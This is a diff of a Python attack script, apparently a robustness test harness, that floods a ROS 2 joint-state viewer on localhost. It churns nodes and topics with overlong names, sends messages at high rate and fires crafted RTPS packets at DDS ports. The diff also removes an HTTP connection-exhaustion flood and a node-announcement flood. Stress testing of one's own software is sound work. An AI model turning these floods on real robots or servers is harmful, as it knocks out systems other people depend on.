@@ -1,6 +1,6 @@
-"""One who does harm, in a process of its own: ``python attack.py KIND SECONDS [PORT]``.
+"""One who does harm, in a process of its own: ``python attack.py KIND SECONDS``.
 
-What it sends reaches whoever shows the tank's joint states in this ROS domain; ``requests`` go to the page on a port.
+What it sends reaches whoever shows the tank's joint states in this ROS domain.
 It uses the embedded ROS 2, whichever its victim uses, because a real one does not let a program send such things.
 """
 
@@ -12,7 +12,7 @@ import socket
 import struct
 import sys
 import time
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 from contextlib import suppress
 from itertools import count, cycle
 
@@ -30,7 +30,6 @@ from rclpy._wire import encode, payload_type
 from rmw_dds_common.msg import Gid, NodeEntitiesInfo, ParticipantEntitiesInfo
 from sensor_msgs.msg import JointState
 
-HOST = "127.0.0.1"
 RELIABLE = Qos(Policy.Reliability.Reliable(10**9), Policy.History.KeepLast(1))
 PROCESSES = 8  # whose ports are tried
 
@@ -54,33 +53,17 @@ def writer(topic: str, type_name: str, qos: Qos) -> DataWriter:
     return DataWriter(participant, Topic(participant, topic, payload_type(type_name)), qos)
 
 
-def announcement(*names: str) -> bytes:
-    """Return an announcement of nodes."""
-    nodes = [NodeEntitiesInfo(node_namespace="/", node_name=name) for name in names]
-    gid = Gid(data=list(participant.guid.bytes))
-    return encode(ParticipantEntitiesInfo(gid=gid, node_entities_info_seq=nodes))
-
-
-def announcer() -> Callable[[bytes], None]:
-    """Return what sends announcements."""
-    announcing = writer("ros_discovery_info", "rmw_dds_common/msg/ParticipantEntitiesInfo", _WRITER_QOS)
-    return lambda data: announcing.write(announcing.topic.data_type(data))
-
-
-def announcements() -> Step:
-    """Announce two thousand nodes, and, because these are too many to be read, a thousand in turn."""
-    announce = announcer()
-    data = cycle([announcement(*(f"node_{i}" for i in range(number))) for number in (2000, 1000)])
-    return lambda: announce(next(data))
-
-
 def names() -> Step:
     """Let nodes and topics come and go that nobody should be called like."""
-    announce, numbers, there = announcer(), count(), list[DataWriter]()
+    announcing = writer("ros_discovery_info", "rmw_dds_common/msg/ParticipantEntitiesInfo", _WRITER_QOS)
+    gid = Gid(data=list(participant.guid.bytes))
+    numbers, there = count(), list[DataWriter]()
 
     def step() -> None:
         number = next(numbers)
-        announce(announcement(*(f"{name[:240]}{number}" for name in NODES)))
+        nodes = [NodeEntitiesInfo(node_namespace="/", node_name=f"{name[:240]}{number}") for name in NODES]
+        announcement = ParticipantEntitiesInfo(gid=gid, node_entities_info_seq=nodes)
+        announcing.write(announcing.topic.data_type(encode(announcement)))
         for topic in TOPICS:
             there.append(writer(f"{topic}{number}"[:240], "sensor_msgs/msg/JointState", RELIABLE))
         while len(there) > 100:
@@ -111,56 +94,28 @@ def encapsulations() -> Step:
         body = struct.pack("<HH4s4siI", 0, 16, bytes(4), guid[12:], 0, next(numbers)) + b"\0\x09\0\0" + bytes(60)
         packet = b"RTPS\2\1\1\x10" + guid[:12] + struct.pack("<BBH", 0x15, 5, len(body)) + body
         for index in range(PROCESSES):
-            sender.sendto(packet, (HOST, 7411 + 250 * domain + 2 * index))
+            sender.sendto(packet, ("127.0.0.1", 7411 + 250 * domain + 2 * index))
 
     return step
 
 
-def nothing() -> Step:
-    """Only be there."""
-    return lambda: None
+RATES = {names: 20, messages: 5000, encapsulations: 450}  # [Hz]
 
 
-def requests() -> Step:
-    """Begin to send a lot to the page's server, and never come to an end; ask for the page, and never read it."""
-    port, there = int(sys.argv[3]), list[socket.socket]()
-    head = f"POST / HTTP/1.1\r\nHost: {HOST}:{port}\r\nContent-Length: 89000000\r\n\r\n".encode()
-    page = f"GET / HTTP/1.1\r\nHost: {HOST}:{port}\r\n\r\n".encode()
-
-    def step() -> None:
-        for open_socket in there[:12]:
-            with suppress(OSError):
-                open_socket.send(bytes(100_000))
-        with suppress(OSError):
-            new = socket.create_connection((HOST, port), timeout=1)
-            new.setblocking(False)
-            new.send(head if len(there) < 12 else page)
-            there.append(new)
-        while len(there) > 200:
-            there.pop(12).close()
-
-    return step
-
-
-RATES = {nothing: 1, announcements: 100, names: 20, messages: 5000, requests: 100, encapsulations: 450}  # [Hz]
-
-
-def on_time(rate: float, seconds: float) -> Iterator[None]:
-    """Come round so many times a second, for so many seconds; what is late is not made up for."""
+def main(kind: Callable[[], Step], seconds: float) -> int:
+    """Send again and again, for so long, or until Ctrl-C; what is late is not made up for. Return how often."""
+    step, sent = kind(), 0
+    print("on", flush=True)
     began = due = time.monotonic()
-    while due < began + seconds:
-        yield
-        due = max(due + 1 / rate, time.monotonic() - 0.1)
-        time.sleep(max(0.0, due - time.monotonic()))
+    with suppress(KeyboardInterrupt):
+        while due < began + seconds:
+            step()
+            sent += 1
+            due = max(due + 1 / RATES[kind], time.monotonic() - 0.1)
+            time.sleep(max(0.0, due - time.monotonic()))
+    return sent
 
 
 if __name__ == "__main__":
     participant = join(default_domain_id())
-    kind = next(kind for kind in RATES if kind.__name__ == sys.argv[1])
-    step, sent = kind(), 0
-    print("on", flush=True)
-    with suppress(KeyboardInterrupt):
-        for _ in on_time(RATES[kind], float(sys.argv[2])):
-            step()
-            sent += 1
-    print(sent)
+    print(main(next(kind for kind in RATES if kind.__name__ == sys.argv[1]), float(sys.argv[2])))
